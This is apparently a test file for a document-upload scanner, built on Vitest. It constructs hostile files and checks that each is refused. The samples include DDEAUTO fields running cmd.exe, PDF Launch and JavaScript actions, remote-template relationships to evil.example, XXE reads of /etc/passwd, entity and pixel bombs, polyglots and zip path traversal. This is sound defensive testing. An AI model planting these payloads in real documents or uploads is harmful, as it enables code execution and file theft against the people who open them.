import { appendFileSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { madeJpeg, madeOffice, madePdf, paragraphs, zipped } from '../../../test/made-files.ts';
import type { Bounds } from './findings.ts';
import { inspectFile } from './inspect.ts';

// Files that somebody made with a purpose. What each of them is about is said by its name.

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'entente-hostile-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

let made = 0;
async function inspect(bytes: Uint8Array, name = 'x.docx', bounds: Partial<Bounds> = {}) {
  made += 1;
  const file = path.join(folder, `made-${made}`);
  writeFileSync(file, bytes);
  try {
    return await inspectFile(file, name, new AbortController().signal, bounds);
  } finally {
    rmSync(file);
  }
}

const english =
  'The Conference of the Parties decided that the regional centres should report on the activities of the network in the region.';
const body = { 'word/document.xml': paragraphs(english) };
const docx = (more: Record<string, string | Uint8Array>) => madeOffice('docx', { ...body, ...more });
const rels = (tag: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tag}</Relationships>`;
const settings = (content: string | Uint8Array, name = 'word/_rels/settings.xml.rels') => docx({ [name]: content });
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const evil = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"';

function png(width: number, height: number, after = Buffer.alloc(0)): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const out = Buffer.alloc(12 + content.length);
    out.writeUInt32BE(content.length, 0);
    out.write(type, 4, 'latin1');
    content.copy(out, 8);
    out.writeUInt32BE(crc32(out.subarray(4, 8 + content.length)), 8 + content.length);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  const rows = deflateSync(Buffer.alloc(Math.min(width * height, 10_000_000)));
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)), after]);
}
const gif = (after = '', width = 1) => {
  const bytes = Buffer.from('47494638396101000100800000000000ffffff2c00000000010001000002024401003b', 'hex');
  bytes.writeUInt16LE(width, 6);
  return Buffer.concat([bytes, Buffer.from(after)]);
};
const jpegOf = (width: number, height: number) => {
  const frame = Buffer.from('ffc00011080000000003012200021101031101', 'hex');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const photo = madeJpeg();
  return Buffer.concat([photo.subarray(0, 2), frame, photo.subarray(2)]);
};

/** A zip with a part whose mode says that it is a link. */
function linkInZip(): Buffer {
  const parts: Parameters<typeof zipSync>[0] = {
    '[Content_Types].xml': strToU8(
      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    'word/document.xml': strToU8(paragraphs(english)),
    'word/media/image1.png': [strToU8('/etc/passwd'), { os: 3, attrs: (0xa1ff << 16) >>> 0 }],
  };
  return Buffer.from(zipSync(parts));
}

/** A list that names one part by two cases of its letters. */
const twoCases = () =>
  zipped({ ...parts(), 'word/document.xml': paragraphs(english), 'Word/Document.xml': paragraphs('x') });
const parts = () => ({
  '[Content_Types].xml':
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
});

/** Encrypted by the standard handler; the password is not the empty one. */
const lockedPdf = () => {
  const bytes = madePdf([english]).toString('latin1');
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> /P -44 >> /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>]`;
  return Buffer.from(bytes.replace('/Root 1 0 R', `/Root 1 0 R ${encrypt}`), 'latin1');
};
/** An action that is packed away in a stream of objects, as newer writers do. */
const packedLaunch = (action = '/S /Laun#63h /F (cmd.exe)', about = '/DecodeParms << /Predictor 1 >>', blanks = 0) => {
  const inner = deflateSync(Buffer.from(`9 0 ${' '.repeat(blanks)}<< /Type /Action ${action} >>`));
  const stream = `90 0 obj\n<< /Length ${inner.length} /Filter /FlateDecode /Type /ObjStm /N 1 /First 4 ${about} >>\nstream\n${inner.toString('latin1')}\nendstream\nendobj\n`;
  const sound = madePdf([english]).toString('latin1');
  return Buffer.from(sound.replace('%PDF-1.4\n', `%PDF-1.4\n${stream}`), 'latin1');
};
const laughs = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:document>`;
const fetched = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:t>&x;</w:t></w:document>`;

describe('is refused, whatever it says it is', () => {
  test.each<[string, () => Uint8Array, string]>([
    ['GIF and script: comment behind the end', () => gif('/*x*/=1;alert(document.domain)'), 'polyglot'],
    ['GIF that is a script alone', () => Buffer.from('GIF89a=1;alert(1);//'), 'broken'],
    ['PNG with a second file behind its end', () => png(10, 10, gzipSync('x')), 'polyglot'],
    ['PNG without a picture', () => Buffer.from('\x89PNG\r\n\x1a\nnothing', 'latin1'), 'broken'],
    ['WebP that says it is shorter than it is', () => Buffer.from('RIFF\x04\0\0\0WEBPalert(1)', 'latin1'), 'polyglot'],
    ['PNG of 50,000 × 50,000 dots', () => png(50_000, 50_000), 'bomb'],
    ['JPEG of 65,000 × 65,000 dots', () => jpegOf(65_000, 65_000), 'bomb'],
    [
      'GIF of 65,000 × 65,000 dots',
      () => {
        const bytes = gif('', 65_000);
        bytes.writeUInt16LE(65_000, 8);
        return bytes;
      },
      'bomb',
    ],
    ['such a PNG within a Word file', () => docx({ 'word/media/image1.png': png(50_000, 50_000) }), 'bomb'],
    [
      'a page before the head of a PDF',
      () => Buffer.concat([Buffer.from('<html><script>1</script>'), madePdf([english])]),
      'polyglot',
    ],

    [
      'a template from elsewhere, in quotes of the other kind',
      () =>
        settings(
          rels(
            `<Relationship Id='a' Type='http://x/attachedTemplate' Target='http://evil.example' TargetMode='External'/>`,
          ),
        ),
      'externalContent',
    ],
    [
      'the same, behind a sign that seems to end the tag',
      () => settings(rels(`<Relationship Id="a>b" ${evil} TargetMode="External"/>`)),
      'externalContent',
    ],
    [
      'the same, with a prefix',
      () =>
        settings(
          `<r:Relationships xmlns:r="x"><r:Relationship Id="a" ${evil} TargetMode="External"/></r:Relationships>`,
        ),
      'externalContent',
    ],
    [
      'the same, in UTF-16',
      () => settings(Buffer.from(`\ufeff${rels(`<Relationship Id="a" ${evil} TargetMode="External"/>`)}`, 'utf16le')),
      'externalContent',
    ],
    [
      'the same, with letters as numbers',
      () => settings(rels(`<Relationship Id="a" ${evil} TargetMode="&#69;xternal"/>`)),
      'externalContent',
    ],
    ['the same, said to be within', () => settings(rels(`<Relationship Id="a" ${evil}/>`)), 'externalContent'],
    [
      'the same, under a name in capitals',
      () => settings(rels(`<Relationship Id="a" ${evil} TargetMode="External"/>`), 'word/_rels/settings.xml.RELS'),
      'externalContent',
    ],
    [
      'a share of the network',
      () =>
        settings(rels('<Relationship Id="a" Type="http://x/frame" Target="\\\\evil\\share" TargetMode="External"/>')),
      'externalContent',
    ],
    [
      'a template from a share',
      () =>
        settings(
          rels(
            '<Relationship Id="a" Type="http://x/attachedTemplate" Target="file://evil/share/t.dotm" TargetMode="External"/>',
          ),
        ),
      'externalContent',
    ],
    [
      'a page as a part of the text',
      () =>
        docx({
          'word/_rels/document.xml.rels': rels('<Relationship Id="a" Type="http://x/aFChunk" Target="a.html"/>'),
        }),
      'embeddedObjects',
    ],

    [
      'macros under another name',
      () =>
        docx({
          'word/theme.dat': ole,
          'word/_rels/document.xml.rels': rels(
            '<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.dat"/>',
          ),
        }),
      'embeddedObjects',
    ],
    [
      'a relationship to macros, whatever they are',
      () =>
        docx({
          'word/theme.dat': 'x',
          'word/_rels/document.xml.rels': rels(
            '<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.dat"/>',
          ),
        }),
      'macros',
    ],
    [
      'content types that say macros',
      () =>
        docx({
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      'macros',
    ],
    ['OLE under another name', () => docx({ 'word/embeddings/picture1.emf': ole }), 'embeddedObjects'],
    ['a program under another name', () => docx({ 'word/media/image1.png': `MZ${'\0'.repeat(100)}` }), 'activeContent'],
    ['a zip under another name', () => docx({ 'word/media/image1.png': zipped({ a: 'a' }) }), 'nested'],
    [
      'macros in the workbook behind a chart',
      () => docx({ 'word/embeddings/Workbook1.xlsx': zipped({ 'xl/vbaProject.bin': 'x' }) }),
      'macros',
    ],
    [
      'a field that starts a program',
      () =>
        docx({
          'word/document.xml':
            '<w:document><w:p><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:document>',
        }),
      'activeContent',
    ],
    [
      'the same in a header',
      () => docx({ 'word/header3.xml': '<w:hdr><w:fldSimple w:instr="DDEAUTO cmd x"/></w:hdr>' }),
      'activeContent',
    ],
    [
      'a link that starts a program, in a workbook',
      () =>
        madeOffice('xlsx', {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      'activeContent',
    ],
    [
      'a script in the styles of OpenDocument',
      () =>
        zipped({
          mimetype: 'application/vnd.oasis.opendocument.text',
          'content.xml': '<a/>',
          'styles.xml': '<a xlink:href="vnd.sun.star.script:x"/>',
        }),
      'macros',
    ],

    ['entities that grow', () => docx({ 'word/document.xml': laughs }), 'bomb'],
    ['the same, in UTF-16', () => docx({ 'word/document.xml': Buffer.from(`\ufeff${laughs}`, 'utf16le') }), 'bomb'],
    ['an entity from the disk', () => docx({ 'word/document.xml': fetched }), 'externalContent'],
    ['an entity in a part that nobody reads', () => docx({ 'customXml/item1.xml': fetched }), 'externalContent'],
    [
      'an encoding in which tags look otherwise',
      () => docx({ 'word/settings.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
      'broken',
    ],

    ['a name that leads upwards', () => docx({ '../../etc/cron.d/x': 'x' }), 'broken'],
    ['a name from the top', () => docx({ '/etc/passwd': 'x' }), 'broken'],
    ['a name with a drive', () => docx({ 'C:\\windows\\x': 'x' }), 'broken'],
    ['a link to elsewhere', linkInZip, 'broken'],
    ['one part in two cases', twoCases, 'polyglot'],

    ['an encrypted PDF', lockedPdf, 'encrypted'],
    ['an encrypted Word file', () => Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]), 'encrypted'],
    [
      'a PDF that starts a program',
      () => madePdf([english], '', '/OpenAction << /S /Launch /F (cmd.exe) >>'),
      'activeContent',
    ],
    ['the same, packed away', () => packedLaunch(), 'activeContent'],
    [
      'the same, behind more blanks than a memory holds',
      () => packedLaunch(undefined, '', 90_000_000),
      'activeContent',
    ],
    [
      'the same, under numbers that nobody uses',
      () => packedLaunch('', '/DecodeParms << /Predictor 12 >>'),
      'notExamined',
    ],
    [
      'a script that waits in a field',
      () => madePdf([english], '', '/A << /JS (app.alert\\(1\\)) >>'),
      'activeContent',
    ],
    ['a script, packed away', () => packedLaunch('/S/JavaScript/JS 8 0 R'), 'activeContent'],

    [
      'SVG with a script',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'unknownFormat',
    ],
    ['the same behind a remark', () => Buffer.from('\n<!-- a drawing --><svg onload="alert(1)"/>'), 'unknownFormat'],
    ['a page sent as text', () => Buffer.from('  <body onload="alert(1)">'), 'unknownFormat'],
    [
      'the same in UTF-16',
      () => Buffer.from('\ufeff<html><body>plain enough to be a text</body></html>', 'utf16le'),
      'unknownFormat',
    ],
    [
      'RTF with a template from elsewhere',
      () => Buffer.from('{\\rtf1{\\*\\template http://evil.example/t}x}'),
      'externalContent',
    ],
    [
      'RTF with a field that starts a program',
      () => Buffer.from('{\\rtf1{\\field{\\*\\fldinst { DDEAUTO cmd.exe calc}}}}'),
      'activeContent',
    ],
  ])('%s', async (_name, make, reason) => {
    const { findings, text } = await inspect(make());
    expect(findings.refused).toBe(reason);
    expect(text).toBeNull();
  });
});

describe('is refused, however large it is', () => {
  const megabyte = 1024 ** 2;
  async function inspectLarge(head: Buffer, tail: Buffer, name: string) {
    const file = path.join(folder, 'large');
    writeFileSync(file, head);
    // A hole in the file: it takes no room on the disk, and is read like any other.
    truncateSync(file, 300 * megabyte);
    appendFileSync(file, tail);
    try {
      // All of it at once would not fit.
      return await inspectFile(file, name, new AbortController().signal, { memoryMegabytes: 64 });
    } finally {
      rmSync(file);
    }
  }
  test.each<[string, Buffer, Buffer, string]>([
    ['a PDF with a script', madePdf([english]), Buffer.from('9 0 obj << /S /JavaScript /JS 8 0 R >>'), 'activeContent'],
    ['a PDF that starts a program', madePdf([english]), packedLaunch(), 'activeContent'],
    ['a PDF that only its reader could open', lockedPdf(), madePdf([english]), 'encrypted'],
    ['RTF with an object', Buffer.from('{\\rtf1 x'), Buffer.from('{\\object\\objemb}}'), 'embeddedObjects'],
    [
      'RTF with a template from elsewhere',
      Buffer.from('{\\rtf1 '),
      Buffer.from('\\template http://x}'),
      'externalContent',
    ],
    ['a picture', png(10, 10), Buffer.from('x'), 'notExamined'],
    ['Word before 2007', ole, Buffer.from('WordDocument', 'utf16le'), 'notExamined'],
  ])(
    '%s',
    async (_name, head, tail, reason) => {
      expect((await inspectLarge(head, tail, 'x')).findings.refused).toBe(reason);
    },
    60_000,
  );
  test('a sound PDF is taken; only its text is not read', async () => {
    const { findings } = await inspectLarge(madePdf([english]), madePdf([english]), 'x.pdf');
    expect(findings).toMatchObject({ format: 'pdf', textState: 'failed', warnings: ['tooLargeToRead'] });
    expect(findings.refused).toBeUndefined();
  }, 60_000);
  test('a part of a Word file that is larger than may be read', async () => {
    const field = '<w:p><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p>';
    const large = docx({ 'word/document.xml': paragraphs(english.repeat(9)) + field });
    expect((await inspect(large, 'x.docx', { readBytes: 600 })).findings.refused).toBe('notExamined');
  });
  test('a field behind as much text as is kept', async () => {
    const field = '<w:ftr><w:fldSimple w:instr="DDEAUTO cmd x"/></w:ftr>';
    const bytes = docx({ 'word/footnotes.xml': field });
    expect((await inspect(bytes, 'x.docx', { textLength: 10 })).findings.refused).toBe('activeContent');
  });
  test('what was cut off before all was looked for', async () => {
    const { findings } = await inspect(madePdf(Array<string>(20_000).fill('')), 'x.pdf', { time: 1 });
    expect(findings.refused).toBe('notExamined');
  });
});

describe('is taken, since honest people have it', () => {
  const external = (type: string, target: string) =>
    settings(rels(`<Relationship Id="a" Type="http://x/${type}" Target="${target}" TargetMode="External"/>`));
  test.each<[string, () => Uint8Array]>([
    ['a link to a page and one to a mailbox', () => external('hyperlink', 'mailto:brs@example.org')],
    [
      'a template on the writer’s own disk',
      () => external('attachedTemplate', 'file:///C:\\Users\\amina\\Normal.dotm'),
    ],
    ['the workbook behind a chart', () => docx({ 'word/embeddings/Workbook1.xlsx': madeOffice('xlsx') })],
    ['a drawing of Windows, packed', () => docx({ 'word/media/image1.emz': gzipSync('x') })],
    ['a sound picture', () => docx({ 'word/media/image1.png': png(300, 200) })],
    [
      'a field that counts pages',
      () => docx({ 'word/footer1.xml': '<w:ftr><w:instrText> NUMPAGES \\* ADDED </w:instrText></w:ftr>' }),
    ],
    ['a text in UTF-16', () => docx({ 'word/document.xml': Buffer.from(`\ufeff${paragraphs(english)}`, 'utf16le') })],
    ['a sound GIF', () => gif()],
    ['a sound PNG with noughts behind', () => png(10, 10, Buffer.alloc(4))],
    ['a photo', () => jpegOf(6000, 4000)],
    ['a text that speaks of <script>', () => Buffer.from(`In a page, <script> begins a program. ${english}`)],
    ['a PDF whose text speaks of /Launch', () => madePdf([`${english} The action /Launch starts a program.`])],
  ])('%s', async (_name, make) => {
    const { findings } = await inspect(make());
    expect(findings.refused).toBeUndefined();
  });
  test('a text in UTF-16 is read', async () => {
    const { text } = await inspect(
      docx({ 'word/document.xml': Buffer.from(`\ufeff${paragraphs(english)}`, 'utf16le') }),
    );
    expect(text).toBe(english);
  });
});

describe('takes no more than it may', () => {
  test('100,000 pages of a real PDF are known before they are read', async () => {
    const began = performance.now();
    const { findings } = await inspect(madePdf(Array<string>(100_000).fill('')), 'x.pdf');
    expect(findings).toMatchObject({ refused: 'tooManyPages' });
    expect(performance.now() - began).toBeLessThan(20_000);
  }, 60_000);

  test('a PDF that says it has two thousand million pages has as many as it has', async () => {
    const bytes = madePdf([english]).toString('latin1').replace('/Count 1', '/Count 2000000000');
    const { findings } = await inspect(Buffer.from(bytes, 'latin1'), 'x.pdf', { time: 10_000 });
    expect(findings.refused === 'tooManyPages' || findings.pages === 1).toBe(true);
  });

  test('a PDF with pictures that would fill the memory (JBIG2, 50,000 × 50,000) is read without unpacking them', async () => {
    const image = (filter: string) =>
      `<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /${filter} /Length 8 >>\nstream\n\0\0\0\0\0\0\0\0\nendstream`;
    const objects = `80 0 obj\n${image('JBIG2Decode')}\nendobj\n81 0 obj\n${image('FlateDecode')}\nendobj\n`;
    const bytes = madePdf([english, english])
      .toString('latin1')
      .replace('%PDF-1.4\n', `%PDF-1.4\n${objects}`)
      .replaceAll('/Resources << /Font', '/Resources << /XObject << /A 80 0 R /B 81 0 R >> /Font')
      .replaceAll('BT /F1', 'q 500 0 0 500 0 0 cm /A Do /B Do Q BT /F1');
    const began = performance.now();
    const { findings, text } = await inspect(Buffer.from(bytes, 'latin1'), 'x.pdf');
    expect(findings).toMatchObject({ format: 'pdf', textState: 'text' });
    expect(text).toContain('regional centres');
    expect(performance.now() - began).toBeLessThan(10_000);
  }, 30_000);

  test('texts that make a careless reader take the square of their length are read in a moment', async () => {
    const blanks = '\u00a0'.repeat(850_000);
    const cases = [
      docx({ 'word/document.xml': paragraphs(`a${blanks}b`) }),
      docx({ 'word/document.xml': `<w:document>${'<w:p'.repeat(200_000)}` }),
      docx({ 'word/document.xml': '<!--'.repeat(200_000) }),
      docx({ 'docProps/core.xml': '<dc:creator>'.repeat(200_000) }),
      docx({ 'word/_rels/document.xml.rels': '<Relationship Id="'.repeat(200_000) }),
      docx({ 'word/_rels/document.xml.rels': `<Relationship ${'TargetMode '.repeat(200_000)}` }),
      docx({ 'word/document.xml': '<w:instrText '.repeat(200_000) }),
      docx({ 'word/document.xml': '<w:fldSimple w:instr="'.repeat(200_000) }),
      Buffer.from(`a${' '.repeat(5_000_000)}b`),
      Buffer.from(`{\\rtf1 ${'\\fldinst '.repeat(300_000)}}`),
    ];
    for (const [at, bytes] of cases.entries()) {
      const began = performance.now();
      await inspect(bytes);
      expect(performance.now() - began, String(at)).toBeLessThan(12_000);
    }
  }, 90_000);

  test('what needs more memory than there is ends its thread, and not the server', async () => {
    const many = Array.from({ length: 60_000 }, (_, at) => `<w:p><w:r><w:t>${at} ${english}</w:t></w:r></w:p>`).join(
      '',
    );
    const { findings, text } = await inspect(
      docx({ 'word/document.xml': `<w:document>${many}</w:document>` }),
      'x.docx',
      {
        memoryMegabytes: 12,
      },
    );
    expect(findings.refused === 'notExamined' || findings.warnings.includes('slow')).toBe(true);
    expect(text).toBeNull();
    // And the next file is read as ever.
    expect((await inspect(madePdf([english]), 'x.pdf')).findings.textState).toBe('text');
  }, 60_000);

  test('who is told to stop stops at once', async () => {
    const stop = new AbortController();
    const file = path.join(folder, 'long');
    writeFileSync(file, madePdf(Array<string>(3_000).fill(english.repeat(10))));
    const began = performance.now();
    const asked = inspectFile(file, 'x.pdf', stop.signal);
    setTimeout(() => stop.abort(new Error('the server ends')), 300);
    await expect(asked).rejects.toThrow('the server ends');
    expect(performance.now() - began).toBeLessThan(10_000);
  }, 20_000);
});
